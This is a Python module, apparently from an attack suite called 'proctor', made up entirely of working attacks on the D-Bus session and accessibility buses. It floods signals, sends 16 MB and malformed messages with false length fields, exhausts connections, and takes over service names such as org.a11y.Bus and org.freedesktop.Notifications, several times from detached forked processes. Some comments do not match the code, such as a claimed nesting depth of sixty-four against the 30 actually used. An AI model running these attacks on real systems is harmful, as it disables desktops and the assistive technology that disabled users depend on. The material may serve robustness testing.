"""Ways to use the session bus against whoever listens: raw messages of D-Bus."""

from __future__ import annotations

import os
import signal
import socket
import struct

from proctor.attacks.attack import attack

FOR_SEC = 40


def _text(text: bytes) -> bytes:
    return struct.pack("<I", len(text)) + text + b"\0"


def _pad(data: bytes, to: int) -> bytes:
    return data + bytes(-len(data) % to)


def _message(kind: int, fields: dict[int, tuple[bytes, bytes]], body: bytes = b"", serial: int = 1) -> bytes:
    """Return a message; fields are signature and marshalled value by number."""
    array = b""
    for number, (signature, value) in fields.items():
        array = _pad(array, 8) + bytes([number, len(signature)]) + signature + b"\0"
        if signature in (b"s", b"o", b"u"):
            array = _pad(array, 4)
        array += value
    head = struct.pack("<BBBBII", 0x6C, kind, 1, 1, len(body), serial)
    return _pad(head + struct.pack("<I", len(array)) + array, 8) + body


def _signal(path: bytes, interface: bytes, member: bytes, signature: bytes = b"", body: bytes = b"") -> bytes:
    fields = {1: (b"o", _text(path)), 2: (b"s", _text(interface)), 3: (b"s", _text(member))}
    if signature:
        fields[8] = (b"g", bytes([len(signature)]) + signature + b"\0")
    return _message(4, fields, body)


def _bus() -> socket.socket:
    path = os.environ["DBUS_SESSION_BUS_ADDRESS"].partition("path=")[2].partition(",")[0]
    return _connect(path)


def _connect(path: str) -> socket.socket:
    bus = socket.socket(socket.AF_UNIX)
    bus.settimeout(10)
    bus.connect("\0" + path[1:] if path.startswith("@") else path)
    uid = str(os.getuid()).encode().hex().encode()
    bus.sendall(b"\0AUTH EXTERNAL " + uid + b"\r\n")
    bus.recv(4096)
    bus.sendall(b"BEGIN\r\n")
    name = b"org.freedesktop.DBus"
    fields = {1: (b"o", _text(b"/org/freedesktop/DBus")), 2: (b"s", _text(name)), 3: (b"s", _text(b"Hello"))}
    bus.sendall(_message(1, {**fields, 6: (b"s", _text(name))}))
    bus.recv(4096)
    return bus


def _accessibility() -> socket.socket:
    for folder in (os.environ.get("XDG_RUNTIME_DIR", "") + "/at-spi", os.path.expanduser("~/.cache/at-spi")):
        if os.path.isdir(folder):
            for name in os.listdir(folder):
                if name.startswith("bus"):
                    return _connect(f"{folder}/{name}")
    raise FileNotFoundError("no accessibility bus")


def _apart(work: object) -> None:
    if os.fork() == 0:
        os.setsid()
        for fd in range(3):
            os.dup2(os.open("/dev/null", os.O_RDWR), fd)
        signal.alarm(FOR_SEC)
        try:
            work()  # type: ignore[operator]
        finally:
            os._exit(0)


def signal_with_a_long_path() -> str:
    """Send signals with a path of seventy thousand characters on both buses."""
    for bus in (_bus(), _accessibility()):
        for _ in range(20):
            bus.sendall(_signal(b"/" + b"a" * 70_000, b"org.a11y.atspi.Event.Object", b"StateChanged"))
    return ""


def flood_of_signals() -> str:
    """Send accessibility events without end."""

    def work() -> None:
        bus = _accessibility()
        body = _pad(_text(b"focused"), 4) + struct.pack("<ii", 1, 0)
        message = _signal(
            b"/org/a11y/atspi/accessible/root", b"org.a11y.atspi.Event.Object", b"StateChanged", b"sii", body
        )
        while True:
            bus.sendall(message * 200)

    _apart(work)
    return ""


@attack(timeout_sec=30)
def huge_signals() -> str:
    """Send accessibility events of sixteen megabytes."""

    def work() -> None:
        bus = _accessibility()
        bus.settimeout(None)
        body = struct.pack("<I", 16 << 20) + b"x" * (16 << 20) + b"\0"
        for _ in range(60):
            bus.sendall(_signal(b"/a", b"org.a11y.atspi.Event.Object", b"TextChanged", b"s", body))

    _apart(work)
    return ""


def deep_signals() -> str:
    """Send events with values nested sixty-four times."""
    for bus in (_bus(), _accessibility()):
        depth = 30
        body = b"\x01v\0" * depth + b"\x01y\0x"
        bus.sendall(_signal(b"/a", b"org.a11y.atspi.Event.Object", b"TextChanged", b"v", body))
    return ""


def take_names() -> str:
    """Take the names under which the harness looks for accessibility and settings."""

    def work() -> None:
        kept = []
        for name in (b"org.a11y.Bus", b"org.a11y.atspi.Registry", b"org.freedesktop.Notifications", b"org.xfce.Panel"):
            for connect in (_bus, _accessibility):
                bus = connect()
                body = _pad(_text(name), 4) + struct.pack("<I", 7)
                target = b"org.freedesktop.DBus"
                fields = {1: (b"o", _text(b"/org/freedesktop/DBus")), 2: (b"s", _text(target))}
                fields |= {3: (b"s", _text(b"RequestName")), 6: (b"s", _text(target)), 8: (b"g", b"\x02su\0")}
                bus.sendall(_message(1, fields, body, 2))
                kept.append(bus)
        signal.pause()

    _apart(work)
    return ""


def many_connections_to_the_bus() -> str:
    """Open as many connections to both buses as they take."""

    def work() -> None:
        kept = []
        for connect in (_accessibility, _bus):
            try:
                while True:
                    kept.append(connect())
            except OSError:
                continue
        signal.pause()

    _apart(work)
    return ""


def silent_connections_to_the_bus() -> str:
    """Open connections to the session bus that never say who they are."""

    def work() -> None:
        kept = []
        path = os.environ["DBUS_SESSION_BUS_ADDRESS"].partition("path=")[2].partition(",")[0]
        try:
            while True:
                bus = socket.socket(socket.AF_UNIX)
                bus.settimeout(2)
                bus.connect(path)
                kept.append(bus)
        except OSError:
            signal.pause()

    _apart(work)
    return ""


def broken_messages() -> str:
    """Send messages whose lengths lie."""
    for length in (0xFFFFFFFF, 0x7FFFFFFF, 1 << 27, 3):
        for connect in (_bus, _accessibility):
            bus = connect()
            bus.sendall(struct.pack("<BBBBIII", 0x6C, 4, 1, 1, length, 1, length) + b"x" * 64)
    return ""
